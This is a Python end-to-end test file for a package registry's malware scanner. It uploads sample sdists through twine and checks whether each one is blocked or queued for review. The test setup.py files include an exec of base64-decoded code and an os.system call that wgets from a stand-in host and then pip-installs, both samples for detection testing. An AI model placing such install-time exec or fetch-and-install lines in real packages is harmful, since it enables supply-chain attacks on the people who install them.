"""The scanner's verdicts through real twine uploads to a live server.

A blocked file: twine exits non-zero and prints why, the file is on no simple page, and its
verdict waits in the moderators' queue. A reviewed file: published, and queued too.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import text

from tests.e2e.conftest import JSON_ACCEPT, LiveServer, twine_upload
from tests.factories.dists import build_sdist
from tests.malware.builders import INERT_CODE, b64

pytestmark = pytest.mark.e2e


def _write(directory: Path, name: str, setup: str) -> Path:
    dist = build_sdist(name, "1.0", extra_files={"setup.py": setup.encode()})
    path = directory / dist.filename
    path.write_bytes(dist.content)
    return path


def _queue(server: LiveServer, project: str) -> list[tuple[str, str, bool]]:
    engine = server.open_database()
    try:
        with engine.connect() as connection:
            rows = connection.execute(
                text("SELECT verdict, review_status, file_id IS NOT NULL FROM malware_verdicts "
                     "WHERE project_name = :name ORDER BY id"),
                {"name": project},
            )  # fmt: skip
            return [(row[0], row[1], bool(row[2])) for row in rows]
    finally:
        engine.dispose()


def test_blocked_upload_is_held_and_never_served(server: LiveServer, tmp_path: Path) -> None:
    blocked = _write(
        tmp_path, "inert-dropper", f"import base64\nexec(base64.b64decode('{b64(INERT_CODE)}'))\n"
    )
    result = twine_upload(server, [blocked], check=False)
    output = " ".join((result.stdout + result.stderr).split())
    assert result.returncode != 0
    assert "403" in output
    assert "held for review" in output
    assert "exec-decoded" in output
    page = server.request("/simple/inert-dropper/", headers={"Accept": JSON_ACCEPT})
    assert page.status == 404
    assert _queue(server, "inert-dropper") == [("block", "open", False)]


def test_reviewed_upload_is_published_and_queued(server: LiveServer, tmp_path: Path) -> None:
    reviewed = _write(
        tmp_path,
        "fetch-helper",
        "import os\nos.system('wget https://tools.invalid/x && pip install x')\n",
    )
    twine_upload(server, [reviewed])
    assert list(server.files_of("fetch-helper")) == [reviewed.name]
    assert _queue(server, "fetch-helper") == [("review", "open", True)]
